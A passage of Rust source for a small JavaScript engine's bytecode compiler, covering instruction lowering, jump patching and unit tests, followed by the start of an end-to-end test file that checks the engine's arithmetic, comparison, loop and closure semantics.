    /// Pop one operand, push the unary result (not `typeof ident`).
    UnOp(UnOp),
    /// Pop a value, push `Num(to_number(value))`.
    ToNumber,
    /// Pop a number, push it ±1 (`true` = increment).
    IncDec(bool),
    /// Peek a base, push `get_prop(base, names[i])` — method extraction for
    /// `base.key(...)` calls, leaving `[base, func]`.
    GetMethod(u32),
    /// Pop an index, peek a base, push the looked-up method.
    GetIndexMethod,
    /// Pop `argc` arguments, the function, and (when `with_this`) the base;
    /// `names[name]` is the static callee name for the "is not a function"
    /// TypeError.
    CallVal { argc: u32, name: u32, with_this: bool },
    /// Pop `argc` arguments and the constructor; push `construct`'s result.
    New { argc: u32 },
    /// `eval(...)` special form: when `eval` resolves in scope fall through
    /// (the argument code and [`Insn::EvalInScope`] follow), else jump to
    /// the ordinary-call lowering.
    EvalCheck(u32),
    /// Pop a value and run it through `eval_in_scope` in the current scope.
    EvalInScope,
    /// Pop a value and throw it (computing the message like the oracle).
    ThrowInsn,
    /// Pop a value, begin a `for`-`in` iteration over its keys and declare
    /// `names[i]` as `undefined`.
    IterKeys(u32),
    /// Pop a value, begin a `for`-`of` iteration over its elements (or
    /// characters) and declare `names[i]`; TypeError when not iterable.
    IterItems(u32),
    /// Advance the innermost iteration: assign the next key/item to
    /// `names[var]`, or jump to `done` when exhausted.
    IterNext { var: u32, done: u32 },
    /// End the innermost iteration (the `done` landing point).
    IterEnd,
    /// Execute `stmts[i]` under the tree-walking oracle and route its
    /// completion: fall through on `Normal`, jump on `Break`/`Continue`,
    /// and on `Return(v)` either return `v` from the chunk (`ret ==
    /// u32::MAX`, function bodies) or discard it and jump (`ret`,
    /// top-level).
    TreeStmt { stmt: u32, brk: u32, cont: u32, ret: u32 },
    /// Pop into the top-level `last` completion register.
    SetLast,
    /// Push the `last` register.
    LoadLast,
    /// Pop the top of stack and return it from the chunk.
    Ret,
}

/// A compiled statement list: flat instructions plus the pools they index.
#[derive(Debug, Default)]
pub struct Chunk {
    pub insns: Vec<Insn>,
    /// Primitive constants (`Num`/`Str`/`Bool`/`Null`/`Undefined` only).
    pub consts: Vec<crate::value::Value>,
    /// Identifier and property names, shared with the interner on use.
    pub names: Vec<Arc<str>>,
    /// `names[i]` pre-interned at compile time, so the VM's scope lookups
    /// hash a bare atom id instead of re-hashing the string per access
    /// (the tree-walker pays that string hash on every ident evaluation).
    pub atoms: Vec<crate::atom::Atom>,
    /// Function definitions for `MakeFunction`/`Hoist`.
    pub fns: Vec<Arc<FunctionDef>>,
    /// Statement subtrees executed by the tree-walking oracle (`TreeStmt`).
    pub stmts: Vec<Stmt>,
}

/// A whole compiled script: the top-level chunk plus one pre-compiled chunk
/// per function definition reachable from it, so a cached script pays
/// bytecode compilation exactly once process-wide.
#[derive(Debug)]
pub struct ScriptChunk {
    pub top: Chunk,
    pub fns: Vec<(Arc<FunctionDef>, Arc<Chunk>)>,
}

/// Compilation mode: the top level of a script completes with its `last`
/// expression value and swallows stray `return`/`break`/`continue`; a
/// function body completes with `undefined` unless a `return` runs.
#[derive(Clone, Copy, PartialEq)]
enum Mode {
    Top,
    Fn,
}

/// Compile a parsed program into its top-level chunk plus the chunks of
/// every transitively reachable function definition. Compilation is total:
/// anything the compiler does not lower natively becomes a [`Insn::TreeStmt`].
pub fn compile_program(program: &Program) -> ScriptChunk {
    let mut fns = Vec::new();
    let top = compile_stmts(&program.body, Mode::Top, &mut fns);
    ScriptChunk { top, fns }
}

/// Compile one function body (used lazily for functions that were not part
/// of a compiled script, e.g. defined by `eval`).
pub fn compile_function(def: &Arc<FunctionDef>) -> Chunk {
    let mut fns = Vec::new();
    compile_stmts(&def.body, Mode::Fn, &mut fns)
}

fn compile_stmts(
    body: &[Stmt],
    mode: Mode,
    out_fns: &mut Vec<(Arc<FunctionDef>, Arc<Chunk>)>,
) -> Chunk {
    let mut c = Compiler::new(mode);
    c.compile_root(body);
    let chunk = c.finish();
    // Collect every function definition reachable from this chunk and
    // compile its body too (recursively), so a cached script carries the
    // bytecode for all its functions.
    for def in &chunk.fns {
        if out_fns.iter().any(|(d, _)| Arc::ptr_eq(d, def)) {
            continue;
        }
        let inner = compile_stmts(&def.body, Mode::Fn, out_fns);
        out_fns.push((def.clone(), Arc::new(inner)));
    }
    chunk
}

type LabelId = usize;

/// Which operand slot of a jump-family instruction a patch targets.
const SLOT_MAIN: u8 = 0;
const SLOT_BRK: u8 = 1;
const SLOT_CONT: u8 = 2;
const SLOT_RET: u8 = 3;

/// An enclosing loop's jump targets, for `break`/`continue`.
struct LoopCtx {
    brk: LabelId,
    cont: LabelId,
}

struct Compiler {
    mode: Mode,
    insns: Vec<Insn>,
    consts: Vec<crate::value::Value>,
    names: Vec<Arc<str>>,
    fns: Vec<Arc<FunctionDef>>,
    stmts: Vec<Stmt>,
    /// Coalesced step charges not yet emitted (pure nodes only).
    pending: u32,
    labels: Vec<Option<u32>>,
    patches: Vec<(usize, u8, LabelId)>,
    loops: Vec<LoopCtx>,
    /// Where a loop-less `break`/`continue`/top-level `return` lands: the
    /// start of the next root statement (the oracle swallows the flow at
    /// the root of a function body or program).
    root_next: Option<LabelId>,
}

impl Compiler {
    fn new(mode: Mode) -> Compiler {
        Compiler {
            mode,
            insns: Vec::new(),
            consts: Vec::new(),
            names: Vec::new(),
            fns: Vec::new(),
            stmts: Vec::new(),
            pending: 0,
            labels: Vec::new(),
            patches: Vec::new(),
            loops: Vec::new(),
            root_next: None,
        }
    }

    // ------------------------------------------------------------ plumbing

    fn emit(&mut self, i: Insn) {
        self.insns.push(i);
    }

    /// Flush the pending step counter. Must run before any instruction with
    /// observable effects, any jump, and any label bind.
    fn flush(&mut self) {
        if self.pending > 0 {
            let n = self.pending;
            self.pending = 0;
            self.insns.push(Insn::Step(n));
        }
    }

    fn charge(&mut self, n: u32) {
        self.pending += n;
    }

    fn new_label(&mut self) -> LabelId {
        self.labels.push(None);
        self.labels.len() - 1
    }

    fn bind(&mut self, l: LabelId) {
        self.flush();
        self.labels[l] = Some(self.insns.len() as u32);
    }

    /// Emit a jump-family instruction whose `slot` operand is patched to
    /// `label` once bound. The operand starts as `u32::MAX`.
    fn emit_jump(&mut self, i: Insn, slot: u8, label: LabelId) {
        self.flush();
        self.patches.push((self.insns.len(), slot, label));
        self.insns.push(i);
    }

    fn patch_extra(&mut self, insn: usize, slot: u8, label: LabelId) {
        self.patches.push((insn, slot, label));
    }

    fn const_idx(&mut self, v: crate::value::Value) -> u32 {
        self.consts.push(v);
        (self.consts.len() - 1) as u32
    }

    fn name_idx(&mut self, n: &Arc<str>) -> u32 {
        if let Some(i) = self.names.iter().position(|x| x == n) {
            return i as u32;
        }
        self.names.push(n.clone());
        (self.names.len() - 1) as u32
    }

    fn fn_idx(&mut self, def: &Arc<FunctionDef>) -> u32 {
        if let Some(i) = self.fns.iter().position(|d| Arc::ptr_eq(d, def)) {
            return i as u32;
        }
        self.fns.push(def.clone());
        (self.fns.len() - 1) as u32
    }

    fn finish(mut self) -> Chunk {
        self.flush();
        // Epilogue: a Top chunk completes with its `last` register, a Fn
        // chunk with `undefined` (an explicit `return` uses `Ret` directly).
        match self.mode {
            Mode::Top => self.emit(Insn::LoadLast),
            Mode::Fn => {
                let u = self.const_idx(crate::value::Value::Undefined);
                self.emit(Insn::Const(u));
            }
        }
        self.emit(Insn::Ret);
        // Label pass: write every bound label position into its operand slot.
        for (insn, slot, label) in &self.patches {
            let pos = self.labels[*label].expect("compiler bug: unbound label");
            match (&mut self.insns[*insn], *slot) {
                (Insn::Jump(t), SLOT_MAIN)
                | (Insn::JumpIfFalsy(t), SLOT_MAIN)
                | (Insn::JumpFalsyKeep(t), SLOT_MAIN)
                | (Insn::JumpTruthyKeep(t), SLOT_MAIN)
                | (Insn::EvalCheck(t), SLOT_MAIN)
                | (Insn::IterNext { done: t, .. }, SLOT_MAIN)
                | (Insn::TreeStmt { brk: t, .. }, SLOT_BRK)
                | (Insn::TreeStmt { cont: t, .. }, SLOT_CONT)
                | (Insn::TreeStmt { ret: t, .. }, SLOT_RET) => *t = pos,
                (other, slot) => {
                    unreachable!("compiler bug: patch slot {slot} on {other:?}")
                }
            }
        }
        // Pre-interning is observation-neutral: atoms are process-global
        // and append-only, and `lookup_ident` treats "interned but unbound"
        // exactly like "never interned" (both fall through to the global
        // object), so interning earlier than the tree-walker would cannot
        // change any result.
        let atoms = self.names.iter().map(crate::atom::Atom::intern_arc).collect();
        Chunk {
            insns: self.insns,
            consts: self.consts,
            names: self.names,
            atoms,
            fns: self.fns,
            stmts: self.stmts,
        }
    }

    // ------------------------------------------------------------- roots

    /// Compile a root statement list (program top level or function body).
    /// Function-declaration hoisting at this level is performed by the
    /// shared interpreter code (`eval_program` / `Interp::call`), not here.
    fn compile_root(&mut self, body: &[Stmt]) {
        for stmt in body {
            let next = self.new_label();
            self.root_next = Some(next);
            match (self.mode, stmt) {
                // The oracle's `eval_program` routes root expression
                // statements straight to `eval_expr` (no statement charge)
                // and records the value as the script's completion.
                (Mode::Top, Stmt::Expr(e)) => {
                    self.expr(e);
                    self.emit(Insn::SetLast);
                }
                _ => self.stmt(stmt),
            }
            self.bind(next);
        }
        self.root_next = None;
    }

    // --------------------------------------------------------- statements

    fn stmt(&mut self, stmt: &Stmt) {
        // Mirrors the oracle's `exec_stmt` entry charge.
        self.charge(1);
        match stmt {
            Stmt::Empty => {}
            // Hoisting happens in shared interpreter code (roots) or via
            // block-entry `Hoist` insns; registering the def here (no code
            // emitted) keeps its body chunk precompiled with the script.
            Stmt::FunctionDecl(d) => {
                self.fn_idx(d);
            }
            Stmt::Expr(e) => {
                self.expr(e);
                self.emit(Insn::Pop);
            }
            Stmt::VarDecl { name, init } => {
                match init {
                    Some(e) => self.expr(e),
                    None => {
                        let u = self.const_idx(crate::value::Value::Undefined);
                        self.emit(Insn::Const(u));
                    }
                }
                let n = self.name_idx(name);
                self.flush();
                self.emit(Insn::Declare(n));
            }
            Stmt::Return(e) => {
                match e {
                    Some(e) => self.expr(e),
                    None => {
                        let u = self.const_idx(crate::value::Value::Undefined);
                        self.emit(Insn::Const(u));
                    }
                }
                self.flush();
                match self.mode {
                    Mode::Fn => self.emit(Insn::Ret),
                    // A top-level `return` evaluates its operand, then the
                    // oracle discards the flow and moves to the next root
                    // statement.
                    Mode::Top => {
                        self.emit(Insn::Pop);
                        let next = self.root_next.expect("top return outside root");
                        self.emit_jump(Insn::Jump(u32::MAX), SLOT_MAIN, next);
                    }
                }
            }
            Stmt::If { cond, then, otherwise } => {
                self.expr(cond);
                let else_l = self.new_label();
                self.emit_jump(Insn::JumpIfFalsy(u32::MAX), SLOT_MAIN, else_l);
                self.block(then);
                match otherwise {
                    Some(e) => {
                        let end = self.new_label();
                        self.emit_jump(Insn::Jump(u32::MAX), SLOT_MAIN, end);
                        self.bind(else_l);
                        self.block(e);
                        self.bind(end);
                    }
                    None => self.bind(else_l),
                }
            }
            Stmt::While { cond, body } => {
                let top = self.new_label();
                let done = self.new_label();
                self.bind(top);
                self.charge(1); // per-iteration charge
                self.expr(cond);
                self.emit_jump(Insn::JumpIfFalsy(u32::MAX), SLOT_MAIN, done);
                self.loops.push(LoopCtx { brk: done, cont: top });
                self.block(body);
                self.loops.pop();
                self.emit_jump(Insn::Jump(u32::MAX), SLOT_MAIN, top);
                self.bind(done);
            }
            Stmt::For { init, cond, update, body } => {
                if let Some(init) = init {
                    self.stmt(init);
                }
                let top = self.new_label();
                let cont = self.new_label();
                let done = self.new_label();
                self.bind(top);
                self.charge(1); // per-iteration charge
                if let Some(c) = cond {
                    self.expr(c);
                    self.emit_jump(Insn::JumpIfFalsy(u32::MAX), SLOT_MAIN, done);
                }
                self.loops.push(LoopCtx { brk: done, cont });
                self.block(body);
                self.loops.pop();
                self.bind(cont);
                if let Some(u) = update {
                    self.expr(u);
                    self.emit(Insn::Pop);
                }
                self.emit_jump(Insn::Jump(u32::MAX), SLOT_MAIN, top);
                self.bind(done);
            }
            Stmt::ForIn { var, object, body } => {
                self.expr(object);
                let n = self.name_idx(var);
                self.flush();
                self.emit(Insn::IterKeys(n));
                self.iter_loop(n, body);
            }
            Stmt::ForOf { var, object, body } => {
                self.expr(object);
                let n = self.name_idx(var);
                self.flush();
                self.emit(Insn::IterItems(n));
                self.iter_loop(n, body);
            }
            Stmt::Break => {
                let target = match self.loops.last() {
                    Some(l) => l.brk,
                    None => self.root_next.expect("break outside root"),
                };
                self.emit_jump(Insn::Jump(u32::MAX), SLOT_MAIN, target);
            }
            Stmt::Continue => {
                let target = match self.loops.last() {
                    Some(l) => l.cont,
                    None => self.root_next.expect("continue outside root"),
                };
                self.emit_jump(Insn::Jump(u32::MAX), SLOT_MAIN, target);
            }
            Stmt::Throw(e, line) => {
                self.flush();
                self.emit(Insn::SetLine(*line));
                self.expr(e);
                self.flush();
                self.emit(Insn::ThrowInsn);
            }
            Stmt::Try { .. } => {
                // Not lowered (absent from the corpus): run the whole
                // subtree under the oracle. `exec_stmt` charges the
                // statement itself, so take back this statement's charge.
                self.pending -= 1;
                self.flush();
                let idx = self.stmts.len() as u32;
                self.stmts.push(stmt.clone());
                let (brk, cont) = match self.loops.last() {
                    Some(l) => (l.brk, l.cont),
                    None => {
                        let next = self.root_next.expect("try outside root");
                        (next, next)
                    }
                };
                let at = self.insns.len();
                self.emit(Insn::TreeStmt {
                    stmt: idx,
                    brk: u32::MAX,
                    cont: u32::MAX,
                    ret: u32::MAX,
                });
                self.patch_extra(at, SLOT_BRK, brk);
                self.patch_extra(at, SLOT_CONT, cont);
                if self.mode == Mode::Top {
                    let next = self.root_next.expect("try outside root");
                    self.patch_extra(at, SLOT_RET, next);
                }
                // In Fn mode `ret` stays `u32::MAX`: return the value.
            }
            Stmt::Block(stmts) => self.block(stmts),
        }
    }

    /// Loop skeleton shared by `for`-`in` and `for`-`of` (the iterator is
    /// already pushed): advance, body, back-edge, and the `done` landing
    /// point that ends the iteration.
    fn iter_loop(&mut self, var: u32, body: &[Stmt]) {
        let top = self.new_label();
        let done = self.new_label();
        self.bind(top);
        self.emit_jump(Insn::IterNext { var, done: u32::MAX }, SLOT_MAIN, done);
        self.loops.push(LoopCtx { brk: done, cont: top });
        self.block(body);
        self.loops.pop();
        self.emit_jump(Insn::Jump(u32::MAX), SLOT_MAIN, top);
        self.bind(done);
        self.emit(Insn::IterEnd);
    }

    /// Compile a nested block: hoist its function declarations (on every
    /// entry, like the oracle's `exec_block`), then its statements.
    fn block(&mut self, stmts: &[Stmt]) {
        for s in stmts {
            if let Stmt::FunctionDecl(d) = s {
                let i = self.fn_idx(d);
                self.flush();
                self.emit(Insn::Hoist(i));
            }
        }
        for s in stmts {
            self.stmt(s);
        }
    }

    // -------------------------------------------------------- expressions

    fn expr(&mut self, e: &Expr) {
        // Mirrors the oracle's `eval_expr` entry charge.
        self.charge(1);
        match e {
            Expr::Num(n) => {
                let i = self.const_idx(crate::value::Value::Num(*n));
                self.emit(Insn::Const(i));
            }
            Expr::Str(s) => {
                let i = self.const_idx(crate::value::Value::Str(s.clone()));
                self.emit(Insn::Const(i));
            }
            Expr::Bool(b) => {
                let i = self.const_idx(crate::value::Value::Bool(*b));
                self.emit(Insn::Const(i));
            }
            Expr::Null => {
                let i = self.const_idx(crate::value::Value::Null);
                self.emit(Insn::Const(i));
            }
            Expr::Undefined => {
                let i = self.const_idx(crate::value::Value::Undefined);
                self.emit(Insn::Const(i));
            }
            Expr::This => self.emit(Insn::LoadThis),
            Expr::Ident(name) => {
                let i = self.name_idx(name);
                self.flush();
                self.emit(Insn::LoadIdent(i));
            }
            Expr::Array(items) => {
                for item in items {
                    self.expr(item);
                }
                self.flush();
                self.emit(Insn::MakeArray(items.len() as u32));
            }
            Expr::Object(pairs) => {
                self.flush();
                self.emit(Insn::AllocObject);
                for (k, e) in pairs {
                    self.expr(e);
                    let i = self.name_idx(k);
                    self.flush();
                    self.emit(Insn::SetOwnProp(i));
                }
            }
            Expr::Function(def) => {
                let i = self.fn_idx(def);
                self.flush();
                self.emit(Insn::MakeFunction(i));
            }
            Expr::Member { base, key, line } => {
                self.flush();
                self.emit(Insn::SetLine(*line));
                self.expr(base);
                let i = self.name_idx(key);
                self.flush();
                self.emit(Insn::GetProp(i));
            }
            Expr::Index { base, index, line } => {
                self.flush();
                self.emit(Insn::SetLine(*line));
                self.expr(base);
                self.expr(index);
                self.flush();
                self.emit(Insn::GetIndex);
            }
            Expr::Call { callee, args, line } => self.call(callee, args, *line),
            Expr::New { callee, args, line } => {
                self.flush();
                self.emit(Insn::SetLine(*line));
                self.expr(callee);
                for a in args {
                    self.expr(a);
                }
                self.flush();
                self.emit(Insn::New { argc: args.len() as u32 });
            }
            Expr::Binary { op, left, right } => {
                self.expr(left);
                self.expr(right);
                self.flush();
                self.emit(Insn::BinOp(*op));
            }
            Expr::Logical { and, left, right } => {
                self.expr(left);
                let end = self.new_label();
                let short = if *and {
                    Insn::JumpFalsyKeep(u32::MAX)
                } else {
                    Insn::JumpTruthyKeep(u32::MAX)
                };
                self.emit_jump(short, SLOT_MAIN, end);
                self.expr(right);
                self.bind(end);
            }
            Expr::Unary { op, operand } => {
                if let (UnOp::TypeOf, Expr::Ident(name)) = (op, &**operand) {
                    // `typeof missing` must not throw: the operand is not
                    // evaluated (and not charged) by the oracle.
                    let i = self.name_idx(name);
                    self.flush();
                    self.emit(Insn::TypeOfIdent(i));
                    return;
                }
                self.expr(operand);
                self.flush();
                self.emit(Insn::UnOp(*op));
            }
            Expr::Delete(target) => match target {
                Target::Ident(_) => {
                    let i = self.const_idx(crate::value::Value::Bool(false));
                    self.emit(Insn::Const(i));
                }
                Target::Member(base, key) => {
                    self.expr(base);
                    let i = self.name_idx(key);
                    self.flush();
                    self.emit(Insn::DeleteProp(i));
                }
                Target::Index(base, index) => {
                    self.expr(base);
                    self.expr(index);
                    self.flush();
                    self.emit(Insn::DeleteIndex);
                }
            },
            Expr::Assign { op, target, value } => {
                self.expr(value);
                match op {
                    AssignOp::Assign => self.plain_assign(target),
                    compound => {
                        let bop = match compound {
                            AssignOp::Add => BinOp::Add,
                            AssignOp::Sub => BinOp::Sub,
                            AssignOp::Mul => BinOp::Mul,
                            AssignOp::Div => BinOp::Div,
                            AssignOp::Assign => unreachable!(),
                        };
                        // Oracle order: read target, op(old, rhs), write
                        // target (the base re-evaluates on the write).
                        self.read_target(target);
                        self.emit(Insn::Swap);
                        self.flush();
                        self.emit(Insn::BinOp(bop));
                        self.emit(Insn::Dup);
                        self.write_target(target);
                    }
                }
            }
            Expr::Update { target, inc, prefix } => {
                self.read_target(target);
                self.flush();
                self.emit(Insn::ToNumber);
                if !*prefix {
                    self.emit(Insn::Dup); // keep the old value as the result
                }
                self.emit(Insn::IncDec(*inc));
                if *prefix {
                    self.emit(Insn::Dup); // the new value is the result
                }
                self.write_target(target);
            }
            Expr::Ternary { cond, then, otherwise } => {
                self.expr(cond);
                let else_l = self.new_label();
                let end = self.new_label();
                self.emit_jump(Insn::JumpIfFalsy(u32::MAX), SLOT_MAIN, else_l);
                self.expr(then);
                self.emit_jump(Insn::Jump(u32::MAX), SLOT_MAIN, end);
                self.bind(else_l);
                self.expr(otherwise);
                self.bind(end);
            }
            Expr::Sequence(exprs) => {
                if exprs.is_empty() {
                    let i = self.const_idx(crate::value::Value::Undefined);
                    self.emit(Insn::Const(i));
                    return;
                }
                for (i, e) in exprs.iter().enumerate() {
                    self.expr(e);
                    if i + 1 < exprs.len() {
                        self.emit(Insn::Pop);
                    }
                }
            }
        }
    }

    /// `a = rhs` / `a.b = rhs` / `a[i] = rhs` with `[rhs]` on the stack;
    /// leaves the assigned value as the result.
    fn plain_assign(&mut self, target: &Target) {
        self.emit(Insn::Dup);
        match target {
            Target::Ident(name) => {
                let i = self.name_idx(name);
                self.flush();
                self.emit(Insn::StoreIdent(i));
            }
            Target::Member(base, key) => {
                self.expr(base);
                let i = self.name_idx(key);
                self.flush();
                self.emit(Insn::SetProp(i));
            }
            Target::Index(base, index) => {
                self.expr(base);
                self.expr(index);
                self.flush();
                self.emit(Insn::SetIndex);
            }
        }
    }

    /// The oracle's `read_target`: no line updates, no charge for the
    /// target node itself (its base sub-expressions do charge).
    fn read_target(&mut self, target: &Target) {
        match target {
            Target::Ident(name) => {
                let i = self.name_idx(name);
                self.flush();
                self.emit(Insn::LoadIdent(i));
            }
            Target::Member(base, key) => {
                self.expr(base);
                let i = self.name_idx(key);
                self.flush();
                self.emit(Insn::GetProp(i));
            }
            Target::Index(base, index) => {
                self.expr(base);
                self.expr(index);
                self.flush();
                self.emit(Insn::GetIndex);
            }
        }
    }

    /// The oracle's `write_target`: pops the value (and re-evaluates the
    /// base), pushes nothing.
    fn write_target(&mut self, target: &Target) {
        match target {
            Target::Ident(name) => {
                let i = self.name_idx(name);
                self.flush();
                self.emit(Insn::StoreIdent(i));
            }
            Target::Member(base, key) => {
                self.expr(base);
                let i = self.name_idx(key);
                self.flush();
                self.emit(Insn::SetProp(i));
            }
            Target::Index(base, index) => {
                self.expr(base);
                self.expr(index);
                self.flush();
                self.emit(Insn::SetIndex);
            }
        }
    }

    /// Call lowering, including the `eval` special form and the oracle's
    /// member/index callee handling (the callee `Member`/`Index` node is
    /// *not* charged — the oracle matches on it without re-entering
    /// `eval_expr`).
    fn call(&mut self, callee: &Expr, args: &[Expr], line: u32) {
        self.flush();
        self.emit(Insn::SetLine(line));
        let mut eval_end = None;
        if let Expr::Ident(name) = callee {
            if &**name == "eval" {
                // Runtime check: `eval` resolving in scope takes the
                // special form; otherwise fall through to an ordinary call
                // (which re-looks-up `eval`, exactly like the oracle).
                let ordinary = self.new_label();
                let end = self.new_label();
                self.emit_jump(Insn::EvalCheck(u32::MAX), SLOT_MAIN, ordinary);
                match args.first() {
                    Some(a) => self.expr(a),
                    None => {
                        let u = self.const_idx(crate::value::Value::Undefined);
                        self.emit(Insn::Const(u));
                    }
                }
                self.flush();
                self.emit(Insn::EvalInScope);
                self.emit_jump(Insn::Jump(u32::MAX), SLOT_MAIN, end);
                self.bind(ordinary);
                eval_end = Some(end);
            }
        }
        let (name, with_this) = match callee {
            Expr::Member { base, key, line } => {
                self.flush();
                self.emit(Insn::SetLine(*line));
                self.expr(base);
                let i = self.name_idx(key);
                self.flush();
                self.emit(Insn::GetMethod(i));
                (self.name_idx(key), true)
            }
            Expr::Index { base, index, line } => {
                self.flush();
                self.emit(Insn::SetLine(*line));
                self.expr(base);
                self.expr(index);
                self.flush();
                self.emit(Insn::GetIndexMethod);
                (self.name_idx(&Arc::from("<computed>")), true)
            }
            other => {
                self.expr(other);
                let n: Arc<str> = match other {
                    Expr::Ident(n) => n.clone(),
                    _ => Arc::from("<expression>"),
                };
                (self.name_idx(&n), false)
            }
        };
        for a in args {
            self.expr(a);
        }
        self.flush();
        self.emit(Insn::CallVal { argc: args.len() as u32, name, with_this });
        if let Some(end) = eval_end {
            self.bind(end);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::parser::parse;

    fn compile_src(src: &str) -> ScriptChunk {
        compile_program(&parse(src, "test.js").unwrap())
    }

    /// Every jump operand must be patched to a real instruction offset —
    /// no `u32::MAX` placeholder may survive (except `TreeStmt.ret` in
    /// function bodies, which uses it as the "return the value" sentinel).
    fn assert_patched(chunk: &Chunk, fn_mode: bool) {
        let n = chunk.insns.len() as u32;
        let check = |t: u32, what: &str| {
            assert!(t < n, "{what} target {t} out of range (len {n})");
        };
        for insn in &chunk.insns {
            match insn {
                Insn::Jump(t)
                | Insn::JumpIfFalsy(t)
                | Insn::JumpFalsyKeep(t)
                | Insn::JumpTruthyKeep(t)
                | Insn::EvalCheck(t)
                | Insn::IterNext { done: t, .. } => check(*t, "jump"),
                Insn::TreeStmt { brk, cont, ret, .. } => {
                    check(*brk, "treestmt brk");
                    check(*cont, "treestmt cont");
                    if fn_mode {
                        assert_eq!(*ret, u32::MAX, "fn-mode TreeStmt returns");
                    } else {
                        check(*ret, "treestmt ret");
                    }
                }
                _ => {}
            }
        }
    }

    #[test]
    fn jump_patching_covers_control_flow() {
        let chunk = compile_src(
            "var total = 0;
             for (var i = 0; i < 4; i++) {
                 if (i % 2 == 0) { continue; }
                 if (i == 3) { break; }
                 total += i;
             }
             while (total > 0) { total--; }
             var t = total ? 'y' : (total && 'n');
             t",
        );
        assert_patched(&chunk.top, false);
        assert!(chunk.top.insns.iter().any(|i| matches!(i, Insn::JumpIfFalsy(_))));
        assert!(chunk.top.insns.iter().any(|i| matches!(i, Insn::JumpFalsyKeep(_))));
    }

    #[test]
    fn function_chunks_are_collected_transitively() {
        let chunk = compile_src(
            "function outer(x) {
                 var inner = function (y) { return y + 1; };
                 return inner(x) + (function () { return 2; })();
             }
             outer(1)",
        );
        // outer + inner + the IIFE.
        assert_eq!(chunk.fns.len(), 3);
        for (_, c) in &chunk.fns {
            assert_patched(c, true);
        }
    }

    #[test]
    fn try_falls_back_to_the_oracle() {
        let chunk = compile_src("try { var x = 1; } catch (e) { x = 2; }");
        assert_patched(&chunk.top, false);
        assert_eq!(chunk.top.stmts.len(), 1);
        assert!(chunk.top.insns.iter().any(|i| matches!(i, Insn::TreeStmt { .. })));
    }

    #[test]
    fn steps_are_coalesced_without_empty_charges() {
        let chunk = compile_src("1 + 2 * 3");
        for insn in &chunk.top.insns {
            if let Insn::Step(n) = insn {
                assert!(*n > 0, "Step(0) emitted");
            }
        }
        // Three literals and two operator nodes = five coalesced charges.
        let total: u32 = chunk
            .top
            .insns
            .iter()
            .map(|i| if let Insn::Step(n) = i { *n } else { 0 })
            .sum();
        assert_eq!(total, 5);
    }

    #[test]
    fn for_in_lowers_to_iterator_instructions() {
        let chunk = compile_src("var o = {a: 1}; for (var k in o) { k; }");
        assert_patched(&chunk.top, false);
        let has = |f: fn(&Insn) -> bool| chunk.top.insns.iter().any(f);
        assert!(has(|i| matches!(i, Insn::IterKeys(_))));
        assert!(has(|i| matches!(i, Insn::IterNext { .. })));
        assert!(has(|i| matches!(i, Insn::IterEnd)));
    }
}
