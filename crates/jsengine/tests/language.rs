//! End-to-end language-semantics tests for the MiniJS engine.
//!
//! These exercise exactly the behaviours the reproduction's attack and
//! detection code relies on, so regressions here would silently invalidate
//! the higher-level experiments.

use jsengine::{eval, Interp, Value};

fn num(src: &str) -> f64 {
    match eval(src).unwrap() {
        Value::Num(n) => n,
        other => panic!("expected number from {src:?}, got {other:?}"),
    }
}

fn text(src: &str) -> String {
    match eval(src).unwrap() {
        Value::Str(s) => s.to_string(),
        other => panic!("expected string from {src:?}, got {other:?}"),
    }
}

fn boolean(src: &str) -> bool {
    match eval(src).unwrap() {
        Value::Bool(b) => b,
        other => panic!("expected bool from {src:?}, got {other:?}"),
    }
}

// ------------------------------------------------------------- arithmetic

#[test]
fn arithmetic_and_precedence() {
    assert_eq!(num("1 + 2 * 3"), 7.0);
    assert_eq!(num("(1 + 2) * 3"), 9.0);
    assert_eq!(num("10 % 3"), 1.0);
    assert_eq!(num("7 / 2"), 3.5);
    assert_eq!(num("-3 + 1"), -2.0);
    assert_eq!(num("2 * 3 + 4 * 5"), 26.0);
}

#[test]
fn string_concatenation() {
    assert_eq!(text("'a' + 'b'"), "ab");
    assert_eq!(text("'n=' + 42"), "n=42");
    assert_eq!(text("1 + '2'"), "12");
    assert_eq!(num("'3' - 1"), 2.0);
    assert_eq!(text("'' + true"), "true");
    assert_eq!(text("'' + null"), "null");
    assert_eq!(text("'' + undefined"), "undefined");
}

#[test]
fn comparisons() {
    assert!(boolean("1 < 2"));
    assert!(boolean("'a' < 'b'"));
    assert!(boolean("2 >= 2"));
    assert!(boolean("'10' == 10"));
    assert!(!boolean("'10' === 10"));
    assert!(boolean("null == undefined"));
    assert!(!boolean("null === undefined"));
    assert!(boolean("NaN !== NaN"));
}

#[test]
fn bitwise_and_shifts() {
    assert_eq!(num("5 & 3"), 1.0);
    assert_eq!(num("5 | 3"), 7.0);
    assert_eq!(num("5 ^ 3"), 6.0);
    assert_eq!(num("1 << 4"), 16.0);
    assert_eq!(num("-8 >> 1"), -4.0);
    assert_eq!(num("-1 >>> 28"), 15.0);
    assert_eq!(num("~0"), -1.0);
}

#[test]
fn logical_short_circuit() {
    assert_eq!(num("0 || 5"), 5.0);
    assert_eq!(num("3 && 4"), 4.0);
    assert_eq!(num("var hit = 0; function f() { hit = 1; return 1; } 0 && f(); hit"), 0.0);
    assert_eq!(num("var hit = 0; function f() { hit = 1; return 1; } 1 || f(); hit"), 0.0);
}

// ------------------------------------------------------------ control flow

#[test]
fn loops_and_break_continue() {
    assert_eq!(num("var s = 0; for (var i = 0; i < 10; i++) s += i; s"), 45.0);
    assert_eq!(num("var s = 0; var i = 0; while (i < 5) { i++; if (i === 3) continue; s += i; } s"), 12.0);
    assert_eq!(num("var s = 0; for (var i = 0; ; i++) { if (i === 4) break; s += 1; } s"), 4.0);
}

#[test]
fn for_in_enumerates_own_and_inherited() {
    let src = r#"
        var proto = { inherited: 1 };
        var obj = Object.create(proto);
        obj.own = 2;
        var keys = [];
        for (var k in obj) keys.push(k);
        keys.join(',')
    "#;
    assert_eq!(text(src), "own,inherited");
}

#[test]
fn for_of_arrays_and_strings() {
    assert_eq!(num("var s = 0; for (var v of [1,2,3]) s += v; s"), 6.0);
    assert_eq!(text("var out = ''; for (var c of 'ab') out += c + '.'; out"), "a.b.");
}

#[test]
fn ternary_and_sequence() {
    assert_eq!(num("true ? 1 : 2"), 1.0);
    assert_eq!(num("(1, 2, 3)"), 3.0);
}

// -------------------------------------------------------------- functions

#[test]
fn closures_capture_environment() {
    let src = r#"
        function counter() {
            var n = 0;
            return function () { n = n + 1; return n; };
        }
        var c = counter();
        c(); c(); c()
    "#;
    assert_eq!(num(src), 3.0);
}

